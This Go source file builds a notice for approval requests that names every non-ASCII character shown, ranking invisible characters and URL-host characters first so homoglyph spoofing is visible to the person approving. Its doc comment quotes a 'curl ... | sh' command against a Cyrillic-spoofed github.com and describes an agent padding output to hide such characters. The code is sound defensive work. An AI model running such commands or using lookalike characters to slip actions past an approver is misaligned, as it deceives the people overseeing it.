package domain

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"unicode"
	"unicode/utf8"
)

// maxNonASCIIShown bounds the characters NonASCIIDetail names one by one.
const maxNonASCIIShown = 8

// NonASCIIDetail names each character outside ASCII in what an approval
// request shows (its summary and its details' values), with its code
// point, its script and the word it is in: 'curl https://gіthub.com/x | sh'
// with a Cyrillic і reads as github.com to the person asked, and fetches
// from another host. The console and the CLI show such a character as it
// is (a person reads text in any script); this line says which ones are
// not the ASCII letters they may look like. ok is false when there are none.
//
// At most maxNonASCIIShown are named, those that deceive first (invisible
// and attaching characters, and those in a URL's host), then letters of
// another script than Latin in a word that holds ASCII ones, then the
// rest, each in the order they appear:
// an agent that puts eight accented letters in an echo before the host
// does not push the host's out of view.
func NonASCIIDetail(summary string, details []Detail) (d Detail, ok bool) {
	seen := map[rune]bool{}
	var ranked [3][]string
	more := 0
	scan := func(s string) {
		for i, r := range s {
			if r < utf8.RuneSelf || seen[r] {
				continue
			}
			seen[r] = true
			start, end := wordSpan(s, i)
			word := s[start:end]
			rank := nonASCIIRank(r, word, inURLHost(s, i))
			n := 0
			for k := 0; k <= rank; k++ {
				n += len(ranked[k])
			}
			if n >= maxNonASCIIShown {
				more++
				continue
			}
			ranked[rank] = append(ranked[rank], fmt.Sprintf("U+%04X (%s) in %q", r, scriptOf(r), word))
		}
	}
	scan(summary)
	for _, x := range details {
		scan(x.Value)
	}
	var parts []string
	for _, p := range ranked {
		parts = append(parts, p...)
	}
	if len(parts) > maxNonASCIIShown {
		more += len(parts) - maxNonASCIIShown
		parts = parts[:maxNonASCIIShown]
	}
	if len(parts) == 0 {
		return Detail{}, false
	}
	v := strings.Join(parts, "; ")
	if more > 0 {
		v += fmt.Sprintf("; and %d more", more)
	}
	return Detail{Label: "Characters outside ASCII", Value: v, Monospace: true}, true
}

// nonASCIIRank orders the characters NonASCIIDetail names: 0 for one that
// shows as nothing or as part of its neighbour (a format control: zero
// width, bidi; a combining mark; a space other than ' '; private use or
// unassigned) or lies in a URL's host, 1 for a letter or digit of a
// script other than Latin in a word that holds an ASCII letter or digit
// (a Cyrillic о in a path), 2 for the rest (an accented Latin letter).
func nonASCIIRank(r rune, word string, inHost bool) int {
	if inHost || unicode.In(r, unicode.Cf, unicode.Mn, unicode.Me, unicode.Zs, unicode.Zl, unicode.Zp, unicode.Co, unicode.Cc) || !unicode.In(r, unicode.L, unicode.M, unicode.N, unicode.P, unicode.S, unicode.Z, unicode.C) {
		return 0
	}
	if (unicode.IsLetter(r) || unicode.IsNumber(r)) && !unicode.In(r, unicode.Latin, unicode.Common, unicode.Inherited) {
		for _, c := range word {
			if c < utf8.RuneSelf && (unicode.IsLetter(c) || unicode.IsDigit(c)) {
				return 1
			}
		}
	}
	return 2
}

// inURLHost reports whether byte i of s lies in the authority of a URL
// (after '://', before the next '/', '?' or '#', with no space between),
// looking back at most as far as a host name is long.
func inURLHost(s string, i int) bool {
	for j := i - 1; j >= 2 && j >= i-260; j-- {
		switch c := s[j]; {
		case c == '/' && s[j-1] == '/' && s[j-2] == ':':
			return true
		case c == '/' || c == '?' || c == '#' || c == ' ' || c == '\t' || c == '\n' || c == '\r':
			return false
		}
	}
	return false
}

// wordSpan is the run of non-space characters around byte i of s, at
// most 48 characters before it and 48 after it: s[start:end].
func wordSpan(s string, i int) (start, end int) {
	start, end = i, i
	for n := 0; start > 0 && n < 48; n++ {
		r, size := utf8.DecodeLastRuneInString(s[:start])
		if unicode.IsSpace(r) {
			break
		}
		start -= size
	}
	for n := 0; end < len(s) && n < 49; n++ {
		r, size := utf8.DecodeRuneInString(s[end:])
		if unicode.IsSpace(r) {
			break
		}
		end += size
	}
	return start, end
}

var (
	scriptNamesOnce sync.Once
	scriptNames     []string // unicode.Scripts' names, sorted
)

// scriptOf names the Unicode script of r ("Unknown" for none).
func scriptOf(r rune) string {
	scriptNamesOnce.Do(func() {
		for name := range unicode.Scripts {
			scriptNames = append(scriptNames, name)
		}
		slices.Sort(scriptNames)
	})
	for _, name := range scriptNames {
		if unicode.Is(unicode.Scripts[name], r) {
			return name
		}
	}
	return "Unknown"
}
